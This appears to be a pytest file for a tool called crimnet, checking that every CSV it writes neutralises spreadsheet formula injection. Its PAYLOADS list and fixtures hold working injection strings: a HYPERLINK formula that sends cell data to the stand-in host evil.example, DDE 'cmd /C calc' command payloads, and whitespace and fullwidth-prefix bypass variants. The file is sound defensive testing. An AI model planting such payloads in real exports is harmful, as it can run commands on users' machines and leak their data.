"""Formula injection (issue 18): every CSV crimnet writes for people to open neutralises formula cells (OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from crimnet.cli import app
from crimnet.errors import ParameterError
from crimnet.frames import FORMULA_PREFIXES, neutralise_formulas, restore_formulas, write_csv
from crimnet.graphs.store.embedded import EmbeddedStore
from crimnet.tables import CanonicalTables
from tests.fixtures import tiny

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # fullwidth equals sign
    "'=1+1",
]


def _risky(cell: str) -> bool:
    """Whether a spreadsheet could run `cell` as a formula (a plain number cannot)."""
    try:
        float(cell)
        return False
    except ValueError:
        pass
    first, after_spaces = cell[:1], cell.lstrip(" ")[:1]
    return bool(first) and (
        first in FORMULA_PREFIXES or bool(after_spaces) and after_spaces in "=+-@\uff1d\uff0b\uff0d\uff20"
    )


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_neutralise_formulas_prefixes_every_owasp_prefix_and_keeps_numbers():
    df = pd.DataFrame({"text": PAYLOADS, "n": range(-5, 5), "f": [-1.5] * 10})
    out = neutralise_formulas(df)
    assert [v[0] for v in out["text"]] == ["'"] * len(PAYLOADS)
    assert out["text"][4] == "'\t=1+1"  # the TAB is kept, never trimmed into '=1+1'
    assert out["text"][9] == "''=1+1"
    assert out["n"].tolist() == list(range(-5, 5)) and out["n"].dtype == df["n"].dtype
    assert out["f"].tolist() == [-1.5] * 10
    text = pd.DataFrame({"v": ["-12.50", "+447700900123", "1e5", "a=b", "ok", None]})
    assert neutralise_formulas(text)["v"].tolist()[:5] == ["-12.50", "+447700900123", "1e5", "a=b", "ok"]
    assert restore_formulas(out).equals(df)
    assert not any(_risky(c) for c in _cells(write_csv(df)))
    with pytest.raises(ParameterError, match="The 'df' parameter of neutralise_formulas must be a pandas DataFrame"):
        neutralise_formulas(["=1"])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("=+-@'\t\r\n \uff1d1a.eE,\""), max_size=8), min_size=1, max_size=6))
def test_neutralising_is_safe_and_exactly_undone(values):
    df = pd.DataFrame({"k": "x", "v": values})
    written = write_csv(df)
    assert not any(_risky(c) for c in _cells(written)[2:])
    rows = list(csv.reader(io.StringIO(written, newline="")))
    back = restore_formulas(pd.DataFrame(rows[1:], columns=rows[0]))
    assert back["v"].tolist() == values


def _write_calls(folder: Path) -> None:
    folder.mkdir()
    rows = ["cdr_id,calling_number,called_number,call_start,duration_sec"]
    for i, payload in enumerate(PAYLOADS[:4]):
        quoted = '"' + payload.replace('"', '""') + '"'
        rows.append(f"c{i},{quoted},07700900002,2025-03-01T22:14:05Z,60")
    rows.append("c9,07700900001,07700900002,2025-03-01T22:14:05Z,=1+1")
    rows.append('c10,07700900001,07700900002,2025-03-01T22:14:05Z,"\t=1+1"')
    (folder / "call_records.csv").write_text("\n".join(rows) + "\n")


def test_ingest_quarantine_and_summary_csvs_are_neutralised_and_merge_back_exactly(tmp_path):
    from crimnet.ingest.pipeline import ingest

    _write_calls(tmp_path / "src")
    res = ingest(tmp_path / "src", tmp_path / "out")
    assert len(res.quarantine) == 6 and res.quarantine["value"].str.contains("=|\\+|@").all()
    for name in ("quarantine.csv", "summary.csv"):
        cells = _cells((tmp_path / "out" / name).read_text())
        assert cells and not [c for c in cells if _risky(c)], name
    raw = (tmp_path / "out" / "quarantine.csv").read_text()
    assert "'=1+1" in raw  # the duration was '\t=1+1': the reader trims it, the writer neutralises
    # a merge reads the neutralised CSVs back as they were ingested
    again = ingest(tmp_path / "src", tmp_path / "out2", previous=tmp_path / "out")
    assert again.quarantine["value"].tolist() == res.quarantine["value"].tolist()
    assert again.quarantine["reason"].tolist() == res.quarantine["reason"].tolist()


@pytest.fixture
def formula_store(tmp_path):
    t = dict(tiny().items())
    t["PAID"] = t["PAID"].assign(reference=[PAYLOADS[0], "-cmd|' /C calc'!A0"])
    t["Person"] = t["Person"].assign(name=["=cmd|' /C calc'!A0", "@SUM(1)", "mia lee"])
    path = tmp_path / "store"
    with EmbeddedStore(path, create=True) as s:
        s.write(CanonicalTables.from_frames(t))
    return path


def test_cypher_and_query_csv_output_is_neutralised(formula_store):
    runner = CliRunner()
    r = runner.invoke(
        app,
        ["cypher", "MATCH ()-[p:PAID]->() RETURN p.reference AS ref, -p.amount AS neg ORDER BY neg",
         "--store", str(formula_store), "--csv"],
    )  # fmt: skip
    assert r.exit_code == 0, r.output
    cells = _cells(r.output)
    assert not [c for c in cells if _risky(c)]
    assert "-12345" in cells and "-500" in cells  # negative numbers stay numbers
    assert "'" + PAYLOADS[0] in cells
    r = runner.invoke(app, ["query", "person_network", "-p", "person_id=p3", "--store", str(formula_store), "--csv"])
    assert r.exit_code == 0, r.output
    cells = _cells(r.output)
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells
    assert not [c for c in cells if _risky(c)]


def test_every_to_csv_in_the_package_goes_through_write_csv():
    root = Path(__file__).resolve().parents[1] / "crimnet"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "frames.py" or "synthetic" in path.parts:  # synthetic writes source extracts, not reports
            continue
        for n, line in enumerate(path.read_text().splitlines(), 1):
            if ".to_csv(" in line and not line.lstrip().startswith(("#", ">>>")):
                offenders.append(f"{path.relative_to(root)}:{n}")
    assert offenders == []


def test_a_whole_number_column_with_a_gap_is_written_as_whole_numbers():
    df = pd.DataFrame({"ref": pd.Series([12845, None, "=1+1"], dtype=object), "n": pd.Series([3, 4, 5])})
    assert write_csv(df).splitlines() == ["ref,n", "12845,3", ",4", "'=1+1,5"]
